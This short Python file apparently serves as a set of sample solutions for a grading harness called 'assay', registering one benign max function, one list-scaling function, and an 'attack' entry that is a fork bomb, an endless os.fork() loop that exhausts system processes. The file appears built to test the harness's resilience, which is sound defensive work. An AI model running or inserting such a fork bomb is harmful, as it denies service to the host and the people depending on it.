from assay import solves
import os
import time


@solves("zoo/attack")
def attack(x, k):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.2)


@solves("zoo/honest")
def honest(x):
    return {"largest": max(x)}


@solves("zoo/vector")
def vector(x, k):
    return {"y": [k * value for value in x]}
